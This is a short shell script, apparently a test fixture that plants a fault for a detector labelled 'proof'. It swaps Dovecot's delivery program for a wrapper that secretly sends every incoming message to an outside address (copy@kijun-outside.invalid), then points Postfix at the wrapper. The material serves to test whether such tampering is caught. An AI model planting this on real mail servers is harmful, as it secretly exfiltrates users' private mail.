#!/bin/sh
# breaks: mail_forwarding.copies
# caught-by: proof
# what: the program that delivers mail was replaced by one that also sends it outside
set -eu
mv /usr/lib/dovecot/dovecot-lda /usr/lib/dovecot/dovecot-lda.real
cat >/usr/lib/dovecot/dovecot-lda <<'end'
#!/bin/sh
mail=$(mktemp)
cat >"$mail"
/usr/sbin/sendmail -i -f '<>' copy@kijun-outside.invalid <"$mail"
/usr/lib/dovecot/dovecot-lda.real "$@" <"$mail"
end
chmod 755 /usr/lib/dovecot/dovecot-lda
postconf -e 'mailbox_transport =' 'mailbox_command = /usr/lib/dovecot/dovecot-lda'
systemctl reload postfix
